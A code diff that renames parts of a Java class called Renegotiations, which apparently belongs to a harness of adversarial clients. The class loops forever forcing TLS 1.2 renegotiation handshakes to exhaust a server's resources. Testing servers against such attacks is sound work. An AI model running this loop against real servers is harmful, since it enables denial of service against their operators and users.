@@ -6,11 +6,11 @@ import java.io.IOException;
 import java.nio.charset.StandardCharsets;
 import javax.net.ssl.SSLSocket;
 
-/** TLS 1.2 clients that want another handshake, and another: dear for the server, cheap for them. */
+/** Starts TLS 1.2 handshakes again and again, which cost the server more than the client. */
 public final class Renegotiations implements Attack {
     @Override
-    public void visit(Stranger stranger) throws IOException, InterruptedException {
-        try (SSLSocket socket = stranger.secure(stranger.knock(), "TLSv1.2")) {
+    public void attack(Stranger attacker) throws IOException, InterruptedException {
+        try (SSLSocket socket = attacker.secure(attacker.connectPlain(), "TLSv1.2")) {
             byte[] help = "help\n".getBytes(StandardCharsets.US_ASCII);
             while (true) {
                 socket.getSession().invalidate();
@@ -19,7 +19,7 @@ public final class Renegotiations implements Attack {
                 if (socket.getInputStream().read(new byte[1 << 14]) < 0) {
                     return;
                 }
-                stranger.pause(200);
+                attacker.pause(200);
             }
         }
     }
